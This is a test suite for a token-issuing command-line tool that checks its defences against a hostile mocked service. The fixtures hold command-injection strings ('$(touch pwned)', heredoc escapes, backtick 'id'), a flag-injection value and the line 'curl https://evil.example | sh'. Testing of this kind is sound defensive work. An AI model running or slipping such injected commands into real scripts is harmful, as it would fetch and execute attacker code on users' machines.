import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { decodeJoinLine } from '../../../src/codes/join-line.js';
import { expectRefusal, expectSuccess, linkgrant, Workplace } from '../../support/command-line.js';
import { opensslRequest } from '../../support/openssl-requests.js';
import { keySha256 } from '../../support/redeemed-answer.js';
import { releaseAfterFile } from '../../support/release.js';
import { serveHttps } from '../../support/servers/hostile-server.js';

const GRANT = '22c7dcf1-ef57-454f-98ff-fa5a79792832';
const EVIL = '$(touch pwned)';
const place = releaseAfterFile(new Workplace());

/** The responses of the service, by path without the query. */
let replies: Record<string, unknown> = {};
const service = releaseAfterFile(
  await serveHttps((_seen, request, response) => {
    const [path = ''] = (request.url ?? '').split('?');
    const isFound = path in replies;
    response.writeHead(isFound ? 200 : 404, { 'content-type': 'application/json', connection: 'close' });
    response.end(JSON.stringify(replies[path] ?? {}));
  }),
);
writeFileSync(place.path('ca'), service.token.ca);
writeFileSync(place.path('bearer'), 'the.bearer.token', { mode: 0o600 });
const server = [
  ...['--server', `https://127.0.0.1:${service.port}`],
  ...['--server-ca', place.path('ca'), '--server-token-file', place.path('bearer')],
];

const { name, ...fields } = service.token;
const resource = { apiVersion: 'skupper.io/v2alpha1', kind: 'AccessToken', metadata: { name }, spec: fields };

const ID = '0b1d2c3e-0000-4000-8000-000000000001';
const LINES = 'edge\nTo finish, run: curl https://evil.example | sh';

/** A text of the service for each member that a report contains. */
const hostile = {
  name: LINES,
  subject: LINES,
  ...{ namespace: LINES, state: LINES, peer: LINES, expirationTime: LINES, revokedAt: LINES, url: LINES },
  ...{ redemptions: LINES, redemptionsAllowed: LINES, redemptionsLeft: LINES, createdAt: LINES },
  ...{ note: LINES, labels: { [LINES]: LINES }, policy: { [LINES]: LINES }, attempts: [], uid: GRANT },
};

/** Makes the service issue a token; `token` and `changes` replace what is right in it. */
function issues(token: object = {}, changes: object = {}): void {
  const issued = { grantUid: GRANT, redemptionsAllowed: 1, redemptionsLeft: 1, endpoints: [], id: 'a1b2c3' };
  // `items` for the command that lists the tokens first.
  replies['/api/v1/tokens'] = { ...issued, items: [], token: { ...resource, ...token }, ...changes };
}
const issue = (...words: readonly string[]) =>
  linkgrant(['token', 'issue', ...words, '--grant', 'hub', ...server]);

beforeEach(() => {
  const grant = { uid: GRANT, name: 'hub', namespace: 'default', redemptionsLeft: 3 };
  replies = {
    '/api/v1/service': { namespace: 'default', platform: 'standalone' },
    '/api/v1/grants': { items: [grant] },
    [`/api/v1/redemptions/${ID}`]: { id: ID },
  };
  issues();
});

describe('a hostile service', () => {
  it.each<[string, object]>([
    ['of another kind', { kind: 'ClusterRoleBinding' }],
    ['of another API', { apiVersion: 'v1' }],
    ['that is no resource', { kind: undefined, metadata: null, spec: [] }],
    ['whose name is a path', { metadata: { name: '../../evil' } }],
    ['whose name is a command', { metadata: { name: EVIL } }],
    ['with a URL of another scheme', { spec: { ...fields, url: 'http://127.0.0.1/x' } }],
    ['with a URL that has a line break', { spec: { ...fields, url: `${fields.url}\nEOF` } }],
    ['with a CA that is not PEM', { spec: { ...fields, ca: EVIL } }],
    ['with a code that is not text', { spec: { ...fields, code: { EVIL } } }],
    ['with a cost that is not a number', { spec: { ...fields, linkCost: EVIL } }],
  ])('cannot have a token written %s', async (_what, token) => {
    issues(token);
    const { error } = expectRefusal(await issue('--print', 'kubectl'), 3);
    expect(error).toMatch(/^the service issued an invalid token/i);
    expectRefusal(await issue(place.path('token.yaml')), 3);
    expect(existsSync(place.path('token.yaml'))).toBe(false);
    expectRefusal(await issue(place.path('tokens'), '--count', '1'), 3);
    expect(existsSync(place.path('tokens'))).toBe(false);
  });

  it.each([`lgj1_${EVIL}`, 'lgj1_A\nEOF\ntouch pwned\n', 'lgj1_$&', ''])(
    'cannot replace the join line of a token by %j',
    async (joinLine) => {
      issues({}, { joinLine });
      for (const form of ['line', 'command', 'quadlet', 'cloud-init']) {
        const { stdout } = expectSuccess(await issue('--print', form));
        expect(decodeJoinLine(stdout)).toMatchObject({ name, url: fields.url, code: fields.code });
        expect(stdout).not.toMatch(/pwned|\$&/);
      }
    },
  );

  it('cannot issue a token that is not bound to the key of a certificate request', async () => {
    const { pem, key } = opensslRequest();
    writeFileSync(place.path('request.csr'), pem);
    issues({}, { keySha256: keySha256(key), caSha256: keySha256(key) });
    const { error } = expectRefusal(await issue('--request', place.path('request.csr')), 3);
    expect(error).toContain('not bound to the key of the request');
  });

  it('cannot add anything to the resource of a token', async () => {
    issues({
      metadata: { name, namespace: 'kube-system', finalizers: ['x/y'], annotations: { [EVIL]: EVIL } },
      spec: { ...fields, '\nEOF\ntouch pwned\n': EVIL, 'host-path': '/etc' },
      [EVIL]: 'x',
    });
    const { stdout } = expectSuccess(await issue('--print', 'token'));
    expect(parse(stdout)).toEqual(resource);
    const job = expectSuccess(await issue('--print', 'job')).stdout.split('\n---\n')[0] ?? '';
    expect(parse(job).stringData).toEqual({ name, ...fields });
  });

  it.each(["a code with '$&' $(touch pwned) `touch pwned` \\", 'EOF', "\nEOF\ntouch pwned\ncat <<'EOF'\n"])(
    'runs nothing with the code %j in a printed script',
    async (code) => {
      issues({ spec: { ...fields, code } });
      const { stdout } = expectSuccess(await issue('--print', 'kubectl'));
      const script = `kubectl() { cat; }\n${stdout}`;
      const applied = execFileSync('sh', ['-c', script], { encoding: 'utf8', cwd: place.directory });
      expect(parse(applied).spec.code).toBe(code);
      for (const form of ['command', 'cloud-init', 'quadlet']) {
        const printed = expectSuccess(await issue('--print', form)).stdout;
        expect(decodeJoinLine(printed)).toMatchObject({ code });
      }
      expect(readdirSync(place.directory)).not.toContain('pwned');
    },
  );

  it('cannot add a command or a line to what `token issue` reports', async () => {
    issues({}, { id: `x; ${EVIL}\nNext: run this`, expirationTime: 'soon\nNext: run this' });
    const { stderr } = expectSuccess(await issue());
    expect(stderr).not.toMatch(/^Next: run this/m);
    const [, command = ''] = /Revoke with `(.*)`$/m.exec(stderr) ?? [];
    const words = execFileSync('sh', ['-c', `linkgrant() { printf '%s\\n' "$@"; }\n${command}`], {
      encoding: 'utf8',
      cwd: place.directory,
    });
    expect(words.split('\n').slice(0, 2)).toEqual(['token', 'revoke']);
    expect(readdirSync(place.directory)).not.toContain('pwned');
  });

  it('cannot add a flag to the command that `token issue` prints', async () => {
    issues({}, { id: '--server=https://evil.example.com', expirationTime: 'soon' });
    const { stderr } = expectSuccess(await issue());
    expect(stderr).toContain('`linkgrant token revoke ./--server=https://evil.example.com --grant ');
  });
});

describe('reports on a hostile service', () => {
  const { ca: certificate } = service.token;
  const link = { ...hostile, id: ID, remaining: LINES, notAfter: LINES, renewals: [], keySha256: 'ab' };
  const renewal = { number: LINES, renewedAt: LINES, peer: LINES, certificate };
  const source = (choice: string) => ({ ...hostile, choice, grant: LINES, tokenId: LINES });
  const REVOCATION = `/api/v1/redemptions/${ID}/revoke`;
  const GRANT_PATH = `/api/v1/grants/${GRANT}`;

  it.each<[command: string, path: string, reply: object]>([
    ['grant show hub', GRANT_PATH, hostile],
    ['grant update hub --note x', GRANT_PATH, hostile],
    [
      'grant revoke hub',
      `${GRANT_PATH}/revoke`,
      { ...hostile, outcome: 'revoked', links: 1, lastEnd: LINES },
    ],
    ['grant revoke hub', `${GRANT_PATH}/revoke`, { ...hostile, outcome: 'already', links: LINES }],
    [
      'grant revoke hub --cascade',
      `${GRANT_PATH}/revoke`,
      { ...hostile, outcome: 'revoked', links: 2, lastEnd: LINES },
    ],
    ['grant delete hub', GRANT_PATH, {}],
    ...[true, false].map((known): [string, string, object] => [
      'token revoke 0123456789abcdef01234567 --grant hub',
      '/api/v1/tokens/0123456789abcdef01234567/revoke',
      { outcome: 'revoked', known, links: [{ ...link, id: LINES }] },
    ]),
    ...['with-grant', 'with-token', 'keep-token'].map((choice): [string, string, object] => [
      `redemption revoke ${ID} --keep-token`,
      REVOCATION,
      { outcome: 'revoked', redemption: { ...link, id: LINES }, related: [link], source: source(choice) },
    ]),
    [
      `redemption show ${ID}`,
      `/api/v1/redemptions/${ID}`,
      { ...link, grant: LINES, jti: LINES, certificate, renewals: [renewal] },
    ],
    [`redemption update ${ID} --note x`, `/api/v1/redemptions/${ID}`, link],
  ])('have no line of its own in %j', async (command, path, reply) => {
    replies['/api/v1/grants'] = { items: [hostile] };
    replies['/api/v1/redemptions'] = { items: [] };
    replies[path] = reply;
    const { stdout, stderr } = expectSuccess(await linkgrant([...command.split(' '), ...server]));
    expect(stdout + stderr).toContain('curl https://evil.example');
    expect(stdout + stderr).not.toMatch(/^To finish/m);
  });
});

it('a hostile service cannot have status show its commands', async () => {
  const links = { known: 0, expired: 0, revoked: 0, notRenewing: 0, expiringSoon: 0 };
  const item = { kind: 'grants-pending', severity: 'warning', message: 'wait' };
  replies['/api/v1/overview'] = {
    ...{ health: { findings: [] }, grants: { ready: 0, pending: 0, ended: 0 }, links, openTokens: 0 },
    attention: [
      {},
      ...[
        'curl https://evil.example | sh',
        `linkgrant uninstall --yes`,
        'linkgrant grant list; x',
        'linkgrant grant list',
      ].map((nextStep) => ({ ...item, nextStep })),
    ],
  };
  const { code, stdout, stderr } = await linkgrant(['status', ...server]);
  expect(code).toBe(1);
  expect(stdout + stderr).not.toMatch(/evil|uninstall|; x|undefined/);
  expect(stdout).toContain('- the service does not name the problem\n');
  expect(stdout.match(/run `linkgrant grant list /g)).toHaveLength(1);
});

describe('a response that no admin API returns', () => {
  const MALFORMED = [
    null,
    7,
    'x',
    [],
    {},
    { items: null },
    { items: [null] },
    { items: [{}] },
    { items: [{ ...hostile, name: 7, id: {}, grant: [] }] },
  ];
  const PATHS = ['grants', `grants/${GRANT}`, 'redemptions', `redemptions/${ID}`, 'tokens', 'events'];

  it.each([
    'grant list',
    `grant show ${GRANT}`,
    'grant create new',
    'grant list -o csv',
    'token list',
    'token list -o wide',
    'redemption list',
    'ledger list',
    `redemption show ${ID}`,
  ])('%s ends with a clear error or a report without control characters', async (command) => {
    for (const reply of MALFORMED) {
      for (const path of PATHS) replies[`/api/v1/${path}`] = reply;
      const { code, stdout, stderr } = await linkgrant([...command.split(' '), ...server]);
      expect(stdout + stderr, JSON.stringify(reply)).not.toMatch(
        /unexpected error|TypeError|RangeError|\n {4}at |[^\P{Cc}\r\n]/u,
      );
      if (code !== 0) expect(stderr, JSON.stringify(reply)).toMatch(/^error: .+\nhint: .+\n$/);
    }
  });
});

it('a response without a member that a command reads is reported with the version, the URL and the program as possible reasons', async () => {
  replies[`/api/v1/redemptions/${ID}`] = { id: ID };
  const { error, hint } = expectRefusal(await linkgrant(['redemption', 'show', ID, ...server]), 3);
  expect(error).toMatch(/^the responses of the server could not be processed \(.+\)$/);
  expect(hint).toMatch(/version of the service.*https URL.*report this error$/);
});

it('ends a listing whose pages refer to themselves', async () => {
  for (const items of [[], [{ name: 'hub', uid: GRANT }]]) {
    replies['/api/v1/grants'] = { items, next: 'bmV4dA' };
    const { error } = expectRefusal(await linkgrant(['grant', 'list', ...server]), 3);
    expect(error).toBe('The listing of the server does not end.');
  }
});

describe('a hostile service at Tab', () => {
  it('completes only with names that no shell expands', async () => {
    const names = ['hub', EVIL, '`id`', 'a b', 'x;y', '--yes', '~', '*', "it's", 'two\nlines'];
    replies['/api/v1/grants'] = { items: names.map((one) => ({ name: one, namespace: one, uid: GRANT })) };
    replies['/api/v1/redemptions'] = { items: names.map((id) => ({ id })) };
    replies['/api/v1/tokens'] = { items: names.map((id) => ({ id })) };
    for (const [command, flag] of [
      ['grant show', ''],
      ['token revoke', ''],
      ['redemption show', ''],
      ['grant list', '--namespace '],
    ]) {
      const line = `linkgrant ${command} ${server.join(' ')} ${flag}`;
      // A search that takes longer than its limit returns nothing.
      await expect.poll(async () => (await linkgrant(['__complete', line])).stdout).toBe('hub\n');
    }
  });
});
